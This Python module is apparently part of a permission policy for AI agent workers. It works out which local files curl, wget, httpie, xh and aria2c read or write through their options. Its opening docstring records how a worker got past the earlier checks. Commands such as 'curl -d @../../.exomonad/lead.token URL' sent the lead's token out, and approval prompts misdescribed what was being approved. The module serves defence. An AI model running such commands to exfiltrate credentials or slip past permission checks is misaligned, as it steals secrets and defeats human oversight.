"""The local files an HTTP client reads and writes through its options.

Found probing as a worker: ``curl`` and ``wget`` were judged only by the hosts they
reach, so ``curl -T ../../.exomonad/lead.token file:///p/.worktrees/w1/x`` copied the
lead's token into the worktree, allowed; ``curl -d @../../.exomonad/lead.token URL``
and ``wget --post-file`` reached a person as "network access to URL" (approving sent
the token); ``curl -o ../../Makefile URL`` overwrote the lead's file under the same
question. Each file an option names is now a read or a write of its own, judged as
``cat`` or ``>`` of it would be.

>>> from exomonad.policy.shell_env import scan_options
>>> from exomonad.policy.shell_lex import Word
>>> words = [Word(t) for t in "-sS -d @../t -F f=<k;type=x -o out URL".split()]
>>> _, opts = scan_options(words, CURL_WITH_ARG)
>>> http_files("curl", [], opts, "/w")
[ReadFile(path='/t', recursive=False, include=()), ReadFile(path='/w/k', \
recursive=False, include=()), WriteFile(path='/w/out')]
"""

from __future__ import annotations

import posixpath
import re

from exomonad.policy.actions import Action, ReadFile, Unknown, WriteFile
from exomonad.policy.shell_env import Options
from exomonad.policy.shell_lex import Word
from exomonad.policy.shell_parse import resolve_path
from exomonad.policy.shell_reads import option_set

__all__ = ["ARIA2_WITH_ARG", "CURL_WITH_ARG", "HTTPIE_WITH_ARG", "WGET_WITH_ARG", "http_files"]

#: curl's options naming a file it reads, as a whole value.
_CURL_READS = ("-T", "--upload-file", "-K", "--config", "--netrc-file", "--key", "--cert",
               "--cacert", "--capath", "--proxy-cacert", "--proxy-cert", "--proxy-key",
               "--crlfile", "--etag-compare", "--hsts", "--alt-svc")  # fmt: skip
#: curl's options whose value reads a file when it starts with ``@``.
_CURL_AT = ("-d", "--data", "--data-ascii", "--data-binary", "--json", "-H", "--header",
            "--proxy-header", "-w", "--write-out", "--url-query")  # fmt: skip
#: curl's options reading a file after ``@`` unless a ``=`` comes first (``name@file``).
_CURL_NAME_AT = ("--data-urlencode", "--variable")
#: curl's form options: ``name=@file`` or ``name=<file`` (``;type=...`` may follow).
_CURL_FORMS = ("-F", "--form")
#: curl's options naming a file (or, ``--output-dir``, a directory) it writes.
_CURL_WRITES = ("-o", "--output", "--output-dir", "-D", "--dump-header", "-c",
                "--cookie-jar", "--trace", "--trace-ascii", "--stderr", "--etag-save",
                "--libcurl", "--hsts", "--alt-svc")  # fmt: skip
#: wget's options naming a file (or directory) it reads / writes.
_WGET_READS = ("-i", "--input-file", "--post-file", "--body-file", "--load-cookies",
               "--config", "--ca-certificate", "--certificate", "--private-key",
               "--ca-directory", "--crl-file", "--hsts-file")  # fmt: skip
_WGET_WRITES = ("-O", "--output-document", "-o", "--output-file", "-a", "--append-output",
                "-P", "--directory-prefix", "--save-cookies", "--warc-file",
                "--rejected-log", "--hsts-file")  # fmt: skip
#: The wgetrc commands ``wget -e`` runs that name a file it reads / writes (their names
#: without case, ``_`` or ``-``, as wget reads them: ``-e post_file=F``, ``-e Post-File=F``).
_WGETRC_READS = frozenset({"postfile", "bodyfile", "input", "loadcookies", "certificate",
                           "privatekey", "cacertificate", "cadirectory", "crlfile",
                           "hstsfile"})  # fmt: skip
_WGETRC_WRITES = frozenset({"outputdocument", "logfile", "dirprefix", "savecookies",
                            "warcfile", "rejectedlog", "hstsfile"})  # fmt: skip

#: Options taking a value, for :func:`~exomonad.policy.shell_env.scan_options`.
CURL_WITH_ARG = option_set(
    "-A -b -c -C -d -D -e -E -F -H -K -m -o -P -Q -r -T -u -U -w -x -X -Y -y -z "
    "--data --data-raw --data-binary --data-urlencode --data-ascii --json --header "
    "--user-agent --referer --output --cookie --cookie-jar --user --proxy --request "
    "--max-time --connect-timeout --resolve --cacert --capath --cert --key --config --form "
    "--form-string --upload-file --write-out --retry --output-dir --limit-rate --interface "
    "--dns-servers --connect-to --unix-socket --abstract-unix-socket --dump-header --trace "
    "--trace-ascii --stderr --etag-save --etag-compare --hsts --alt-svc --libcurl "
    "--netrc-file --proxy-cacert --proxy-cert --proxy-key --crlfile --variable --url-query "
    "--proxy-header --url"
)
WGET_WITH_ARG = option_set(
    "-O -o -a -P -U -e -t -T -w -i -B --output-document --output-file --append-output "
    "--directory-prefix --user-agent --header --tries --timeout --wait --input-file "
    "--post-data --post-file --body-file --user --password --load-cookies --save-cookies "
    "--method --body-data --config --ca-certificate --certificate --private-key "
    "--ca-directory --crl-file --hsts-file --warc-file --rejected-log --execute"
)

#: httpie's and xh's options naming a file they read / write; a request item that reads
#: a file (``f=@F``, ``f:=@F``, ``h:@F``, a form's ``f@F``, the body's ``@F``).
_HTTPIE_READS = ("--cert", "--cert-key", "--session-read-only")
_HTTPIE_WRITES = ("-o", "--output")
_ITEM_FILE = re.compile(r"[^=:@]*(?::=@|=@|:@|@)(.+)", re.DOTALL)
HTTPIE_WITH_ARG = option_set(
    "-o --output -a --auth -A --auth-type --session --session-read-only --cert --cert-key "
    "--verify --proxy --timeout --max-redirects --pretty -s --style -p --print "
    "--format-options --response-charset --response-mime --boundary --ssl --ciphers "
    "--default-scheme --unix-socket"
)
#: aria2c's options naming a file it reads / writes; its ``-o`` is within its ``-d``.
_ARIA2_READS = ("-i", "--input-file", "--conf-path", "--load-cookies", "-T", "--torrent-file",
                "-M", "--metalink-file", "--netrc-path", "--server-stat-if",
                "--ca-certificate", "--certificate", "--private-key")  # fmt: skip
_ARIA2_WRITES = ("-d", "--dir", "-l", "--log", "--save-session", "--save-cookies",
                 "--dht-file-path", "--dht-file-path6", "--server-stat-of")  # fmt: skip
_ARIA2_HOOKS = (
    "--on-download-complete",
    "--on-download-error",
    "--on-download-start",
    "--on-download-stop",
    "--on-download-pause",
    "--on-bt-download-complete",
)
ARIA2_WITH_ARG = option_set(" ".join((*_ARIA2_READS, *_ARIA2_WRITES, *_ARIA2_HOOKS,
                                      "-o --out -x -s -k -j -U --user-agent")))  # fmt: skip


def _values(opts: Options, names: tuple[str, ...]) -> list[Word]:
    return [w for name in names for w in opts.get(name, []) if w is not None]


def _file(word: Word, text: str, cwd: str | None) -> str | None:
    """The path ``text`` (a part of ``word``) names; None when the command line does not
    tell it (an expansion in the word)."""
    return None if word.dynamic else resolve_path(cwd, Word(text, False, word.quoted))


def _after_at(word: Word, *, named: bool) -> str | None:
    """The file of an ``@file`` value (``named``: ``name@file`` too, unless ``=`` comes
    before the ``@``); None when the value is data, not a file, or is stdin (``@-``)."""
    text = word.text
    if named:
        at = text.find("@")
        if at < 0 or "=" in text[:at]:
            return None
        found = text[at + 1 :]
    elif text.startswith("@"):
        found = text[1:]
    else:
        return None
    return None if found in ("", "-") else found


def _form_file(word: Word) -> str | None:
    """The file of a form field ``name=@file`` or ``name=<file`` (up to a ``;``)."""
    _, eq, value = word.text.partition("=")
    if not eq or value[:1] not in ("@", "<"):
        return None
    found = value[1:].split(";", 1)[0].strip('"')
    return None if found in ("", "-") else found


def _paths(words: list[Word], cwd: str | None) -> list[str | None]:
    return [_file(w, w.text, cwd) for w in words if w.text != "-"]


def _wgetrc(words: list[Word], keys: frozenset[str], cwd: str | None) -> list[str | None]:
    """The files the ``wget -e KEY=FILE`` commands among ``words`` name, for ``keys``."""
    found: list[str | None] = []
    for word in words:
        key, eq, value = word.text.partition("=")
        name = key.strip().lower().replace("_", "").replace("-", "")
        if eq and name in keys and value.strip() != "-":
            found.append(_file(word, value.strip(), cwd))
    return found


def _files(reads: list[str | None], written: list[str | None]) -> list[Action]:
    return [*(ReadFile(p) for p in reads), *(WriteFile(p) for p in written)]


def _curl(opts: Options, cwd: str | None) -> list[Action]:
    """curl's files: whole values, ``@file`` data, ``name@file``, form files, a cookie
    file (a ``-b`` value without ``=``), and what it writes."""
    reads = _paths(_values(opts, _CURL_READS), cwd)
    reads += [_file(w, f, cwd) for w in _values(opts, _CURL_AT)
              if (f := _after_at(w, named=False)) is not None]  # fmt: skip
    reads += [_file(w, f, cwd) for w in _values(opts, _CURL_NAME_AT)
              if (f := _after_at(w, named=True)) is not None]  # fmt: skip
    reads += [_file(w, f, cwd) for w in _values(opts, _CURL_FORMS)
              if (f := _form_file(w)) is not None]  # fmt: skip
    reads += _paths([w for w in _values(opts, ("-b", "--cookie")) if "=" not in w.text], cwd)
    return _files(reads, _paths(_values(opts, _CURL_WRITES), cwd))


def _wget(opts: Options, cwd: str | None) -> list[Action]:
    """wget's files, by option and by wgetrc line (``-e KEY=FILE``)."""
    commands = _values(opts, ("-e", "--execute"))
    reads = _paths(_values(opts, _WGET_READS), cwd) + _wgetrc(commands, _WGETRC_READS, cwd)
    written = _paths(_values(opts, _WGET_WRITES), cwd) + _wgetrc(commands, _WGETRC_WRITES, cwd)
    return _files(reads, written)


def _httpie(items: list[Word], opts: Options, cwd: str | None) -> list[Action]:
    """httpie's or xh's request ``items`` reading files, its session and output files."""
    reads = [_file(w, m.group(1), cwd) for w in items
             if (m := _ITEM_FILE.fullmatch(w.text)) is not None]  # fmt: skip
    reads += _paths(_values(opts, _HTTPIE_READS), cwd)
    verify = [w for w in _values(opts, ("--verify",))
              if w.text.lower() not in ("yes", "no", "true", "false")]  # fmt: skip
    sessions = [w for w in _values(opts, ("--session",)) if "/" in w.text or w.dynamic]
    reads += _paths(verify + sessions, cwd)
    return _files(reads, _paths(_values(opts, _HTTPIE_WRITES) + sessions, cwd))


def _aria2(opts: Options, cwd: str | None) -> list[Action]:
    """aria2c's files; a command it runs on an event (``--on-download-complete``) is
    :class:`~exomonad.policy.actions.Unknown`."""
    hooks = [f"{k}={' '.join(w.text for w in ws if w is not None)}"
             for k, ws in opts.items() if k.startswith("--on-")]  # fmt: skip
    reads = _paths(_values(opts, _ARIA2_READS), cwd)
    written = _paths(_values(opts, _ARIA2_WRITES), cwd)
    dirs = _values(opts, ("-d", "--dir"))
    base = _file(dirs[-1], dirs[-1].text, cwd) if dirs else cwd
    for out in _values(opts, ("-o", "--out")):
        written.append(None if base is None or out.dynamic
                       else posixpath.normpath(posixpath.join(base, out.text)))  # fmt: skip
    return [*(Unknown(f"aria2c runs {h}") for h in hooks), *_files(reads, written)]


def http_files(name: str, items: list[Word], opts: Options, cwd: str | None) -> list[Action]:
    """What ``curl``, ``wget``, httpie, ``xh`` or ``aria2c`` reads and writes of the
    local files its options (and httpie's request ``items``) name."""
    if name in ("http", "https", "xh"):
        return _httpie(items, opts, cwd)
    if name == "aria2c":
        return _aria2(opts, cwd)
    if name == "wget":
        return _wget(opts, cwd)
    return _curl(opts, cwd) if name == "curl" else []
